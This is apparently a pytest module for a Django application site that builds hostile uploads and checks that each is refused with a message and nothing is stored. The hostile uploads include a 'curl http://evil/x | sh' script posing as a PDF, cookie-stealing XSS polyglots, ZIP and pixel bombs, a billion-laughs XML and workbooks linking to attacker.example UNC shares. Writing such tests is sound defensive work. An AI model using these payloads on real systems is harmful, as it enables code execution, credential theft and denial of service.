"""A corpus of hostile uploads (issue 8, "Hostile input"): a script renamed .pdf, HTML/PDF
polyglots, an SVG with a script, a ZIP bomb posing as XLSX, workbooks with macros, links to
other files or embedded objects, a 50 MB file, an empty file and files of a type no field
takes. Each is refused with a message in the page, and nothing is stored: no
ApplicationDocument row and no file under MEDIA_ROOT.

Every file is generated here, in tmp_path; nothing large is committed.
``tests/test_uploads.py`` checks the messages of ``validate_upload`` on small samples; this
module sends the full corpus through the applicant's real upload page and the roster import,
and checks that the bomb is judged without being expanded.
"""

import io
import os
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from applications.models import ApplicationDocument
from ozgeris.public_files import SANDBOX_POLICY
from ozgeris.uploads import JPEG, PNG, XLSX, detect_type, validate_upload

from .factories import PDF_BYTES, started_application, xlsx_upload, xlsx_with_parts

pytestmark = pytest.mark.django_db
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
MB = 1024 * 1024


@pytest.fixture(autouse=True)
def _english():
    """Messages are matched in English (the pages get Accept-Language: en)."""
    with translation.override("en"):
        yield


# ---------------------------------------------------------------------------
# The corpus, generated
# ---------------------------------------------------------------------------

def write(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def script_renamed_pdf(tmp_path):
    return write(tmp_path, "balance.pdf", b"#!/bin/sh\ncurl http://evil/x | sh\n")


def exe_renamed_pdf(tmp_path):
    return write(tmp_path, "balance.pdf", b"MZ\x90\x00\x03" + b"\x00" * 500 + b"PE\x00\x00")


def html_pdf_polyglot(tmp_path):
    """A PDF header, then an HTML page a sniffing browser would render."""
    return write(tmp_path, "balance.pdf",
                 b"%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body>\n"
                 + PDF_BYTES[9:])


def html_first_polyglot(tmp_path):
    """An HTML page whose comment carries a PDF header (PDF readers look a little way in)."""
    return write(tmp_path, "balance.pdf",
                 b"<!DOCTYPE html><html><!--\n%PDF-1.4\n-->"
                 b"<script>alert(1)</script></html>\n" + PDF_BYTES)


def svg_with_script(tmp_path):
    return write(tmp_path, "logo.svg",
                 b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
                 b'<script>alert(document.domain)</script></svg>')


def svg_renamed_png(tmp_path):
    return write(tmp_path, "logo.png",
                 b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')


BOMB_MEMBER_BYTES = 300 * MB  # what the bomb's sheet expands to


_bomb = {}


def zip_bomb(tmp_path, name="figures.xlsx"):
    """An XLSX-looking ZIP (content types, workbook) whose sheet inflates to 300 MB of zeros
    from a few hundred KB: streamed into the archive, never held in memory whole (and built
    once per run; each test gets its own copy)."""
    if "bytes" not in _bomb:
        buffer = io.BytesIO()
        chunk = b"0" * MB
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook/>")
            with archive.open("xl/worksheets/sheet1.xml", "w") as member:
                for _ in range(BOMB_MEMBER_BYTES // MB):
                    member.write(chunk)
        _bomb["bytes"] = buffer.getvalue()
    return write(tmp_path, name, _bomb["bytes"])


def lying_zip_bomb(tmp_path, name="figures.xlsx"):
    """The same bomb, its local header and central directory claiming the sheet is 2 KB:
    a check that trusts the declared sizes sees an ordinary workbook."""
    data = bytearray(zip_bomb(tmp_path, name).read_bytes())
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    assert sheet.file_size == BOMB_MEMBER_BYTES and not sheet.extra  # no ZIP64 fields
    struct.pack_into("<I", data, sheet.header_offset + 22, 2048)  # local header
    central = archive.start_dir
    while data[central + 46:central + 46 + len(sheet.filename)] != sheet.filename.encode():
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data,
                                                                        central + 28)
        central += 46 + name_length + extra_length + comment_length
    struct.pack_into("<I", data, central + 24, 2048)  # central directory
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(sheet.filename).file_size == 2048
    return write(tmp_path, name, bytes(data))


def fifty_megabytes(tmp_path):
    """A genuine-looking PDF of 50 MB: over the 10 MB limit by size alone."""
    path = tmp_path / "annual-report.pdf"
    with path.open("wb") as handle:
        handle.write(PDF_BYTES)
        handle.truncate(50 * MB)  # sparse: the size without writing 50 MB from Python
    return path


def empty_file(tmp_path):
    return write(tmp_path, "balance.pdf", b"")


def word_document(tmp_path):
    """A .docx: a ZIP, but not a workbook (a wrong extension for every field)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return write(tmp_path, "balance.docx", buffer.getvalue())


def plain_text(tmp_path):
    return write(tmp_path, "balance.txt", "Баланс за 2018 год\n".encode())


def html_page(tmp_path):
    return write(tmp_path, "balance.html", b"<html><script>alert(1)</script></html>")


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
UNC_TARGET = r"\\attacker.example\share\x.xlsx"  # opening it hands over Windows credentials


def relationship(kind, target, mode="External"):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
            f'</Relationships>').encode()


def workbook(tmp_path, parts, name="figures.xlsx"):
    return write(tmp_path, name, xlsx_with_parts(parts).read())


def workbook_with_macros(tmp_path):
    """An .xlsm's VBA project in a workbook named .pdf: the content decides, not the name."""
    return workbook(tmp_path, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500},
                    name="budget.pdf")


def macro_enabled_workbook(tmp_path):
    """No VBA part, but [Content_Types].xml declares the workbook macro-enabled."""
    return workbook(tmp_path, {"[Content_Types].xml": (
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" '
        b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')})


def workbook_linking_another(tmp_path):
    return workbook(tmp_path, {
        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.'
                                              b'openxmlformats.org/spreadsheetml/2006/main"/>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationship("externalLinkPath",
                                                                      UNC_TARGET)})


def workbook_with_a_picture_elsewhere(tmp_path):
    """A picture Excel fetches from a share when the sheet is shown: only the relationship
    tells (no part of a telling name)."""
    return workbook(tmp_path, {"xl/drawings/_rels/drawing1.xml.rels": relationship(
        "image", r"\\attacker.example\share\logo.png")})


def workbook_with_an_ole_object(tmp_path):
    return workbook(tmp_path, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 64})


def workbook_with_an_activex_control(tmp_path):
    return workbook(tmp_path, {"XL/ActiveX/activeX1.xml": b"<ax:ocx/>"})


CORPUS = {
    "script renamed .pdf": (script_renamed_pdf, "not a PDF"),
    "executable renamed .pdf": (exe_renamed_pdf, "not a PDF"),
    "HTML/PDF polyglot": (html_pdf_polyglot, "markup"),
    "HTML page carrying a PDF header": (html_first_polyglot, "not a PDF"),
    "SVG with a script": (svg_with_script, "not a PDF"),
    "SVG renamed .png": (svg_renamed_png, "not a PDF"),
    "ZIP bomb posing as XLSX": (zip_bomb, "unreasonable size"),
    "50 MB file": (fifty_megabytes, "limit"),
    "empty file": (empty_file, "empty"),
    "wrong extension: .docx": (word_document, "not an Excel workbook"),
    "wrong extension: .txt": (plain_text, "not a PDF"),
    "wrong extension: .html": (html_page, "not a PDF"),
    "XLSX with macros": (workbook_with_macros, "contains macros"),
    "XLSX declared macro-enabled": (macro_enabled_workbook, "contains macros"),
    "XLSX linking another workbook": (workbook_linking_another, "links to other files"),
    "XLSX with a picture on a share": (workbook_with_a_picture_elsewhere,
                                       "links to other files"),
    "XLSX with an OLE object": (workbook_with_an_ole_object, "embedded objects"),
    "XLSX with an ActiveX control": (workbook_with_an_activex_control, "embedded objects"),
}


def files_under(root):
    root = Path(root)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


# ---------------------------------------------------------------------------
# Through the applicant's upload page
# ---------------------------------------------------------------------------

@pytest.fixture
def draft(make_user, client, open_programme, media):
    user = make_user(email="uploader@example.kz", preferred_language="en")
    client.force_login(user)
    application = started_application(open_programme, user)
    return application


def _document_slot(page, kind):
    """The application form's block for one document slot: its classes and its inner HTML."""
    slots = r'<div class="field document-slot(?P<classes>[^"]*)">(?P<body>.*?)</div>'
    for match in re.finditer(slots, page, re.DOTALL):
        if f'id="doc_{kind}"' in match["body"]:
            return match.groupdict()
    raise AssertionError(f"no slot for {kind} on the page")


@pytest.mark.parametrize("label", list(CORPUS))
@pytest.mark.parametrize("action", ["save", "submit"])
def test_a_hostile_upload_is_refused_with_a_message_and_nothing_is_stored(
    client, draft, media, tmp_path, label, action
):
    make, message = CORPUS[label]
    path = make(tmp_path)
    url = reverse("applications:edit", args=[draft.pk])

    with path.open("rb") as handle:
        response = client.post(url, {"project_title": "Қолөнер", "doc_balance_sheet": handle,
                                     action: "1"}, **EN)

    assert response.status_code == 200
    page = response.content.decode()
    slot = _document_slot(page, "balance_sheet")
    assert "has-error" in slot["classes"] and message in slot["body"]  # beside its own slot
    assert not ApplicationDocument.objects.filter(application=draft).exists()
    assert files_under(media) == []
    draft.refresh_from_db()
    assert draft.status == "draft"


def test_a_refused_upload_next_to_an_accepted_one_stores_only_the_good_one(
    client, draft, media, tmp_path
):
    bomb = zip_bomb(tmp_path)
    with bomb.open("rb") as handle:
        response = client.post(reverse("applications:edit", args=[draft.pk]), {
            "doc_balance_sheet": SimpleUploadedFile("balance.pdf", PDF_BYTES),
            "doc_tax_certificate": handle, "save": "1"}, **EN)

    assert "unreasonable size" in response.content.decode()
    assert list(draft.documents.values_list("kind", flat=True)) == ["balance_sheet"]
    assert [p.suffix for p in files_under(media)] == [".pdf"]


def test_a_pdf_with_a_misleading_name_is_stored_under_its_real_type(client, draft, media):
    """The type comes from the content: a real PDF called .exe is kept, named .pdf, served as
    a PDF attachment — never as what its name claims."""
    client.post(reverse("applications:edit", args=[draft.pk]), {
        "doc_balance_sheet": SimpleUploadedFile("setup.exe", PDF_BYTES,
                                                content_type="application/x-msdownload"),
        "save": "1"}, **EN)

    document = draft.documents.get()
    assert document.content_type == "application/pdf"
    assert document.file.name.endswith(".pdf")
    assert [p.suffix for p in files_under(media)] == [".pdf"]
    download = client.get(reverse("applications:document", args=[draft.pk, document.pk]))
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["Content-Security-Policy"] == SANDBOX_POLICY
    assert download["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("name", ["report.html", "setup.exe", "figures.svg"])
def test_a_download_is_named_after_its_detected_type(client, draft, media, name):
    client.post(reverse("applications:edit", args=[draft.pk]), {
        "doc_balance_sheet": SimpleUploadedFile(name, PDF_BYTES), "save": "1"}, **EN)

    document = draft.documents.get()
    download = client.get(reverse("applications:document", args=[draft.pk, document.pk]))
    assert re.search(r'filename="[^"]*\.pdf"', download["Content-Disposition"]), \
        download["Content-Disposition"]


def test_markup_deep_inside_a_pdf_is_only_ever_served_as_a_sandboxed_attachment(
    client, draft, media
):
    """The markup check reads the first 2 KB; a PDF may carry "<html" further in (inside a
    stream, legitimately). Such a file is kept, but never served as a page a browser runs."""
    deep = PDF_BYTES[:9] + b"%" + b"0" * 4096 + b"\n%<html><script>alert(1)</script>\n" \
        + PDF_BYTES[9:]
    client.post(reverse("applications:edit", args=[draft.pk]), {
        "doc_balance_sheet": SimpleUploadedFile("report.html", deep, "text/html"),
        "save": "1"}, **EN)

    document = draft.documents.get()
    download = client.get(reverse("applications:document", args=[draft.pk, document.pk]))
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["Content-Security-Policy"] == SANDBOX_POLICY
    assert download["X-Content-Type-Options"] == "nosniff"


# ---------------------------------------------------------------------------
# validate_upload directly (every field's types; the finalist's photo too)
# ---------------------------------------------------------------------------

def uploaded(path):
    return SimpleUploadedFile(path.name, path.read_bytes())


@pytest.mark.parametrize("label", [name for name in CORPUS if name != "50 MB file"])
@pytest.mark.parametrize("allowed", [None, (JPEG, PNG)], ids=["documents", "photo"])
def test_validate_upload_refuses_the_corpus(tmp_path, label, allowed):
    make, message = CORPUS[label]
    upload = uploaded(make(tmp_path))

    with pytest.raises(ValidationError) as refused:
        if allowed:
            validate_upload(upload, allowed=allowed)
        else:
            validate_upload(upload)

    text = " ".join(refused.value.messages)
    assert text  # a message, whatever the field
    if allowed is None:
        assert message in text


def test_the_50_mb_file_is_refused_by_its_size_without_being_read(tmp_path):
    path = fifty_megabytes(tmp_path)
    reads = []

    class Watched(io.FileIO):
        def read(self, size=-1):
            reads.append(size)
            return super().read(size)

    with Watched(path, "rb") as handle:
        upload = UploadedFile(handle, name=path.name, size=path.stat().st_size)
        with pytest.raises(ValidationError, match="limit"):
            validate_upload(upload)
    assert reads == []


@pytest.fixture
def inflated(monkeypatch):
    """The sizes of what zipfile inflates from now on (counted in bytes, not in seconds)."""
    sizes = []

    def counting(original):
        def read(self, n=-1):
            data = original(self, n)
            sizes.append(len(data))
            return data

        return read

    for name in ("read", "read1"):
        monkeypatch.setattr(zipfile.ZipExtFile, name,
                            counting(getattr(zipfile.ZipExtFile, name)))
    return sizes


def test_the_zip_bomb_is_judged_without_being_expanded(tmp_path, inflated):
    """The refusal comes from the archive's directory: at most a little is inflated, never
    the 300 MB."""
    path = zip_bomb(tmp_path)
    inflated.clear()
    assert path.stat().st_size < 2 * MB

    with path.open("rb") as handle:
        upload = SimpleUploadedFile(path.name, handle.read())
    with pytest.raises(ValidationError, match="unreasonable size"):
        detect_type(upload)
    with pytest.raises(ValidationError, match="unreasonable size"):
        validate_upload(upload)

    assert sum(inflated) < MB


def test_a_bomb_that_lies_about_its_size_is_refused(tmp_path, inflated):
    """Its directory looks ordinary; the check reads the sheet and finds it is not what the
    directory says (a damaged workbook), having inflated little of the 300 MB."""
    upload = uploaded(lying_zip_bomb(tmp_path))
    inflated.clear()
    with pytest.raises(ValidationError, match="damaged"):
        validate_upload(upload)
    assert 0 < sum(inflated) < MB  # it did read the sheet, a little of it


def test_a_lying_bomb_is_refused_by_the_upload_page(client, draft, media, tmp_path):
    path = lying_zip_bomb(tmp_path)
    with path.open("rb") as handle:
        response = client.post(reverse("applications:edit", args=[draft.pk]),
                               {"doc_balance_sheet": handle, "save": "1"}, **EN)
    assert response.status_code == 200
    assert "The Excel workbook is damaged and cannot be read." in response.content.decode()
    assert not ApplicationDocument.objects.filter(application=draft).exists()
    assert files_under(media) == []


def hyperlinked_workbook(target):
    """A workbook whose cell A1 links to ``target`` (an external relationship, as Excel writes
    a hyperlink)."""
    book = load_workbook(xlsx_upload([["site"]]))
    book.active["A1"].hyperlink = target
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("figures.xlsx", buffer.getvalue())


@pytest.mark.parametrize("target", ["https://ozgeris.example.kz/", "mailto:info@example.kz"])
def test_a_workbook_with_a_hyperlink_to_a_web_page_is_accepted(target):
    """Excel follows a cell's hyperlink only when it is clicked: a link to a web page or a mail
    address is ordinary in a balance sheet."""
    assert validate_upload(hyperlinked_workbook(target)) == XLSX


def test_a_workbook_with_a_hyperlink_to_a_share_is_refused():
    with pytest.raises(ValidationError, match="links to other files"):
        validate_upload(hyperlinked_workbook(UNC_TARGET))


def test_a_workbook_whose_relationships_declare_entities_is_refused_as_damaged():
    """No part of a workbook has a DTD; one that declares entities (to expand, or to fetch)
    is refused before any is expanded."""
    laughs = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>')
    upload = xlsx_with_parts({"xl/_rels/workbook.xml.rels": laughs})

    with pytest.raises(ValidationError, match="damaged"):
        validate_upload(upload)


def test_a_plain_workbook_is_accepted():
    assert validate_upload(xlsx_upload([["Доходы", 10_000_000]])) == XLSX


def test_reading_a_lying_bomb_stops_at_the_declared_size(tmp_path):
    """Where the server does open a workbook (the roster import, through openpyxl), zipfile
    inflates no more than the directory declares and then fails the CRC: no 300 MB."""
    archive = zipfile.ZipFile(lying_zip_bomb(tmp_path))
    with pytest.raises(zipfile.BadZipFile), archive.open("xl/worksheets/sheet1.xml") as sheet:
        assert len(sheet.read()) <= 2048


# ---------------------------------------------------------------------------
# The roster import takes XLSX: the bomb and the forgeries are refused there too
# ---------------------------------------------------------------------------

@pytest.mark.parametrize(("make", "name", "message"), [
    (zip_bomb, "roster.xlsx", "unreasonable size"),
    (svg_with_script, "roster.xlsx", "markup"),
    (html_pdf_polyglot, "roster.xlsx", "markup"),
    (word_document, "roster.xlsx", "not an Excel workbook"),
    (lying_zip_bomb, "roster.xlsx", "damaged"),
    (workbook_with_macros, "roster.xlsx", "contains macros"),
    (workbook_linking_another, "roster.xlsx", "links to other files"),
    (empty_file, "roster.xlsx", "empty"),
    (empty_file, "roster.csv", "empty"),
    (exe_renamed_pdf, "roster.csv", "not a CSV"),
])
def test_the_roster_import_refuses_hostile_files(client, staff, meeting, media, tmp_path,
                                                 make, name, message):
    staff.preferred_language = "en"
    staff.save()
    client.force_login(staff)
    data = make(tmp_path).read_bytes()

    response = client.post(reverse("admin:events_infomeeting_import", args=[meeting.pk]),
                           {"file": SimpleUploadedFile(name, data)}, **EN)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not response.context.get("payload")
    assert not meeting.roster.exists()
    assert files_under(media) == []


# ---------------------------------------------------------------------------
# The finalist's photo (JPEG or PNG, 5 MB): the same corpus through the profile page
# ---------------------------------------------------------------------------

def big_png(tmp_path):
    """A real PNG of about 6.8 MB (noise does not compress): over the photo's 5 MB."""
    from PIL import Image

    path = tmp_path / "photo.png"
    Image.frombytes("RGB", (1500, 1500), os.urandom(1500 * 1500 * 3)).save(path)
    assert path.stat().st_size > 5 * MB
    return path


def _png_chunk(kind, data):
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def pixel_bomb_png(tmp_path):
    """A tiny PNG declaring 30000 x 30000 pixels: decoding it would take gigabytes."""
    header = struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0)
    data = (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096)) + _png_chunk(b"IEND", b""))
    return write(tmp_path, "photo.png", data)


NOT_AN_IMAGE = "Upload a valid image"  # Django's ImageField (Pillow) answers before our check
PHOTO_CORPUS = {
    "SVG with a script": (svg_with_script, NOT_AN_IMAGE),
    "SVG renamed .png": (svg_renamed_png, NOT_AN_IMAGE),
    "HTML/PDF polyglot": (html_pdf_polyglot, NOT_AN_IMAGE),
    "a PDF where a photo goes": (lambda tmp_path: write(tmp_path, "photo.jpg", PDF_BYTES),
                                 NOT_AN_IMAGE),
    "ZIP bomb posing as XLSX": (zip_bomb, NOT_AN_IMAGE),
    "pixel bomb PNG": (pixel_bomb_png, NOT_AN_IMAGE),
    "6.8 MB PNG": (big_png, "limit"),
    "empty file": (empty_file, "empty"),
}


@pytest.mark.parametrize("label", list(PHOTO_CORPUS))
def test_a_hostile_photo_is_refused_with_a_message_and_nothing_is_stored(
    client, draft, media, tmp_path, label
):
    from applications.models import Application

    Application.objects.filter(pk=draft.pk).update(status="finalist")
    make, message = PHOTO_CORPUS[label]
    path = make(tmp_path)

    with path.open("rb") as handle:
        response = client.post(reverse("applications:profile", args=[draft.pk]),
                               {"pending_photo": handle, "public_text_ru": "Текст"}, **EN)

    assert response.status_code == 200
    assert message in response.content.decode()
    draft.refresh_from_db()
    assert not draft.pending_photo
    assert draft.public_text_ru == ""  # the form was refused whole
    assert files_under(media) == []
